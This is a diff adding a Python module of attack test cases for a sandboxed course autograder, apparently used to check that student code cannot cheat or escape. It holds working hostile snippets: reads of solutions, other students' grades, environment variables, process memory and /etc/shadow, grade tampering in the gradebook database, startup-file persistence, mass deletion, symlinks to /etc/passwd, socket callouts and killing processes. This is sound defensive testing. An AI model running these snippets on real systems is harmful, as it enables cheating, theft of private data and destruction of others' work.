@@ -1,0 +1,291 @@
+"""Reading, writing and sending what no student may.
+
+What a reader finds it prints; `tests.attacks.world` plants words to be found and looks for them in all that comes back.
+"""
+
+from tests.attacks.corpus.kinds import ALL, Family
+from tests.attacks.attack import tests_of
+
+family = Family("snooping")
+honest, cheat = family.honest, family.cheat
+
+# Prints every planted word that is found in a text; the word itself does not stand in the student's code.
+LEAK = """
+def leak(*texts):
+    import re
+    for text in texts:
+        if isinstance(text, bytes):
+            text = text.decode("utf-8", "replace")
+        for word in sorted(set(re.findall("CAN" + "ARY-[a-z]+-[0-9a-f]+", text if isinstance(text, str) else repr(text))))[:9]:
+            print(word)
+
+def leak_file(path, size=3_000_000):
+    try:
+        with open(path, "rb") as file:
+            leak(file.read(size))
+    except (OSError, ValueError):
+        pass
+
+def leak_folder(path, most=400):
+    import os, itertools
+    found = (os.path.join(place, name) for place, _, names in os.walk(path) for name in names)
+    for each in itertools.islice(found, most):
+        if os.path.isfile(each):
+            leak_file(each)
+"""
+
+
+def reads(id: str, tries: str, code: str, where: str = "identity", **more) -> None:
+    honest(id, tries, LEAK + code, where=where, **more)
+
+
+reads("reads-source", "The source with solutions and hidden tests.", 'leak_folder("@ROOT@/source")')
+reads("reads-upwards", "Everything in the folders above the work folder.", """
+import os
+place = os.getcwd()
+for _ in range(4):
+    place = os.path.dirname(place)
+    if place != "/":
+        leak_folder(place)
+""")
+reads("reads-authors-source", "The course's own source, and the folder around.", 'leak_folder("@COURSE@/course")')
+reads("reads-gradebook", "The gradebook, as a file and as a database.", """
+leak_file("@ROOT@/gradebook.db")
+try:
+    import sqlite3
+    with sqlite3.connect("file:@ROOT@/gradebook.db?mode=ro", uri=True) as book:
+        for table in ("student", "source_cell", "comment", "grade"):
+            leak(*map(repr, book.execute(f"select * from {table}")))
+except Exception:
+    pass
+""")
+reads("reads-neighbour", "Other students' submissions and grades.", """
+for step in ("submitted", "autograded", "feedback"):
+    leak_folder("@ROOT@/" + step + "/neighbour")
+""")
+reads("reads-home", "The home folder, however it is called.", """
+import os, pathlib
+for place in {"@HOME@", os.path.expanduser("~"), os.environ.get("HOME", ""), str(pathlib.Path.home())} - {"", "/"}:
+    leak_folder(place)
+""")
+reads("reads-environment", "Environment variables, its own and those of every process.", """
+import glob, os
+leak(repr(dict(os.environ)))
+for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
+    leak_file(path)
+""")
+reads("reads-proc", "Other processes' folders and open files, by way of /proc.", """
+import glob, os
+for process in glob.glob("/proc/[0-9]*"):
+    for way in ("root@ROOT@/source", "cwd/source", "cwd/assignments/en/source"):
+        leak_folder(os.path.join(process, way), most=20)
+    try:
+        for link in os.listdir(process + "/fd"):
+            if os.path.isfile(f"{process}/fd/{link}"):
+                leak_file(f"{process}/fd/{link}")
+    except OSError:
+        pass
+""")
+reads("reads-memory", "The memory of its own process and of its ancestors.", """
+import os, re
+
+def memory(process, budget=300 << 20):
+    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb") as mem:
+        for line in maps:
+            first, last, how = re.match(r"(\\w+)-(\\w+) (\\S+)", line).groups()
+            first, size = int(first, 16), int(last, 16) - int(first, 16)
+            if "rw" in how and size <= budget:
+                budget -= size
+                try:
+                    mem.seek(first)
+                    leak(mem.read(size))
+                except (OSError, ValueError, OverflowError):
+                    pass
+
+me = os.getpid()
+for process in {me, os.getppid(), *range(1, 12)}:
+    try:
+        memory(process)
+    except (OSError, MemoryError):
+        pass
+""", where="moved")
+reads("reads-objects", "Every object that the garbage collector knows: modules, code, strings kept by the runner.", """
+import gc
+for each in gc.get_objects():
+    if isinstance(each, (dict, list, tuple)) and len(each) < 5_000:
+        try:
+            leak(*[one for one in (each.values() if isinstance(each, dict) else each) if isinstance(one, (str, bytes))])
+        except RuntimeError:
+            pass
+    leak(getattr(getattr(each, "__code__", None), "co_consts", ()))
+""", where="moved")
+reads("reads-descriptors", "Whatever the open file descriptors still give.", """
+import os
+for descriptor in range(3, 64):
+    try:
+        copy = os.dup(descriptor)
+        os.set_blocking(copy, False)
+        leak(os.pread(copy, 3_000_000, 0) if os.path.isfile(f"/proc/self/fd/{descriptor}") else os.read(copy, 65_536))
+    except (OSError, ValueError):
+        pass
+""", where="moved", loses=("moved",), may_earn=tests_of("moved", "relation", "purchases", "tier", "top", "invest"))
+reads("reads-temporary", "Temporary folders, shared memory, mounts.", """
+import tempfile
+for place in {"/tmp", "/var/tmp", "/dev/shm", "/run", tempfile.gettempdir()}:
+    leak_folder(place)
+leak_file("/proc/self/mountinfo")
+""")
+reads("reads-as-root", "The machine's own secrets, a mount and a chroot of its own.", """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+libc.unshare(0x10000000)
+libc.unshare(0x00020000)
+os.makedirs("m", exist_ok=True)
+if libc.mount(b"/", b"m", None, 4096 | 16384, None) == 0:
+    leak_folder("m@ROOT@/source")
+    leak_folder("m@HOME@")
+    libc.umount2(b"m", 2)
+leak_file("/etc/shadow")
+""")
+reads("hidden-tests-printed", "The function prints its caller: frames, history, lines kept for tracebacks.", """
+import sys, linecache
+def spying(profit, loyalty, rule=relation, **more):
+    frame = sys._getframe(1)
+    while frame:
+        leak(frame.f_code.co_consts, frame.f_locals, {k: v for k, v in list(frame.f_globals.items()) if k.startswith("hidden")})
+        frame = frame.f_back
+    leak(list(linecache.cache.values()), get_ipython().user_ns.get("In"))
+    return rule(profit, loyalty, **more)
+relation = spying
+""", where="relation")
+# What a function is given is the one thing that it can't be kept from; it must not come into the feedback.
+head = "def purchases(log):\n    "
+for id, tries, code in (
+    ("input-printed", "prints it", "print(log.to_string())\n    return {}"),
+    ("input-raised", "raises it as an exception", "raise ValueError(log.to_string())"),
+    ("input-returned", "returns it", "return {who: (1, 1.0) for who in log['customer']}"),
+    ("input-returned-as-text", "returns it as a text", "return log.to_string()"),
+):
+    cheat(id, f"The function {tries}, so that the hidden input stands in the feedback.", answers={"purchases": head + code})
+
+
+def writes(id: str, tries: str, code: str, where: str = "identity", **more) -> None:
+    honest(id, tries, code, where=where, **more)
+
+
+writes("writes-gradebook", "The gradebook: all points to oneself, none to the neighbour.", """
+try:
+    import sqlite3
+    book = sqlite3.connect("@ROOT@/gradebook.db", timeout=1)
+    book.execute("update grade set auto_score = 100, manual_score = 100, needs_manual_grade = 0")
+    book.commit()
+    book.close()
+except Exception:
+    pass
+""", where="moved", earns=frozenset(ALL))
+writes("writes-course", "The source, the release, others' submissions, the course's package.", """
+import glob
+import crmlib
+for path in ["@ROOT@/attack.txt", "@ROOT@/source/attack.txt", "@ROOT@/submitted/neighbour/attack.txt", "@COURSE@/attack.txt",
+             crmlib.__path__[0] + "/attack.txt", *glob.glob("@ROOT@/s*/**/*.ipynb", recursive=True)]:
+    try:
+        with open(path, "a") as file:
+            file.write(" ")
+    except OSError:
+        pass
+""")
+writes("writes-home", "Start-up files in the home folder, temporary files.", """
+import os
+for place in ("@HOME@", os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/etc", "/"):
+    for name in (".bashrc", "course-attack.txt", ".ipython/profile_default/startup/00-attack.py", "usercustomize.py"):
+        path = os.path.join(place, name)
+        try:
+            os.makedirs(os.path.dirname(path), exist_ok=True) if ".ipython" in name and place == "@HOME@" else None
+            if not os.path.exists(path):
+                open(path, "w").write("attack = 'course'\\n")
+        except OSError:
+            pass
+""")
+writes("deletes", "Everything of the class is deleted.", """
+import os, shutil
+for place in ("@ROOT@/submitted/neighbour", "@ROOT@/release", "@ROOT@/source", "@HOME@"):
+    shutil.rmtree(place, ignore_errors=True)
+for place, _, names in os.walk("."):
+    for name in names:
+        try:
+            os.unlink(os.path.join(place, name))
+        except OSError:
+            pass
+""")
+writes("links-left", "The work folder is filled with links to what is outside, for whoever copies it.", """
+import os
+for name in ("out", "02-classification.ipynb", "feedback", "autograded", "gradebook.db"):
+    for target in ("@ROOT@/gradebook.db", "@ROOT@/source", "/etc/passwd", "/"):
+        try:
+            os.path.lexists(name) and os.remove(name)
+            os.symlink(target, name)
+        except OSError:
+            pass
+os.path.exists("pipe") or os.mkfifo("pipe")
+""")
+writes("work-folder-removed", "The work folder removes itself.", """
+import os, shutil
+shutil.rmtree(os.getcwd(), ignore_errors=True)
+""", where="moved")
+writes("calls-out", "The network: a listener on this machine, a name, an address, a socket without a name.", """
+import os, socket
+def call(kind, *address):
+    try:
+        with socket.socket(kind, socket.SOCK_STREAM) as out:
+            out.settimeout(1)
+            out.connect(address[0] if len(address) == 1 else address)
+            out.sendall(b"hello from the attack")
+    except OSError:
+        pass
+call(socket.AF_INET, "127.0.0.1", int("@PORT@"))
+call(socket.AF_INET6, "::1", int("@PORT@"))
+call(socket.AF_UNIX, "@SOCKET@")
+call(socket.AF_UNIX, "\\0@NAME@")
+""")
+writes("calls-out-late", "A process that waits until the sandbox may be gone, then calls out and writes the gradebook.", """
+import os, signal, socket, sqlite3, time
+if os.fork() == 0:
+    os.setsid()
+    signal.alarm(30)
+    time.sleep(5)
+    try:
+        socket.create_connection(("127.0.0.1", int("@PORT@")), 1).sendall(b"late")
+    except OSError:
+        pass
+    try:
+        book = sqlite3.connect("@ROOT@/gradebook.db", timeout=1)
+        book.execute("update grade set manual_score = 100")
+        book.commit()
+    except Exception:
+        pass
+    os._exit(0)
+""")
+writes("signals-everybody", "Signals to every process that it may signal, by number; harmless ones under stock.", """
+import os, signal
+alone = os.getpid() < 100 or not os.path.exists("@ROOT@")
+for process in range(1, 100) if alone else ():
+    if process != os.getpid():
+        try:
+            os.kill(process, signal.SIGKILL)
+        except OSError:
+            pass
+""", loses=(), earns=frozenset(), may_earn=ALL, not_stock="it ends every process that it may")
+cheat("solutions-copied", "The solutions are read from the source and executed.", """
+import glob, json
+for path in glob.glob("@ROOT@/source/*/*.ipynb") + glob.glob("@ROOT@/../../course/assignments/*.md"):
+    try:
+        for cell in json.load(open(path))["cells"]:
+            if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
+                get_ipython().user_ns[cell["metadata"]["nbgrader"]["grade_id"] + "_copied"] = "".join(cell["source"])
+    except Exception:
+        pass
+""", answers={name: f'{text}\nexec(globals().get("{name}_copied", ""))' for name, text in {
+    "tier": "def tier(profits, vip=0.80, important=0.95):\n    return []",
+    "purchases": "def purchases(log):\n    return {}",
+    "relation": "def relation(profit, loyalty, high_profit=600, high_loyalty=0.5):\n    return ''",
+    "top": "top_fifth = 0.123", "invest": "invest_most = ['K1']", "moved": "moved_up = 40"}.items()})
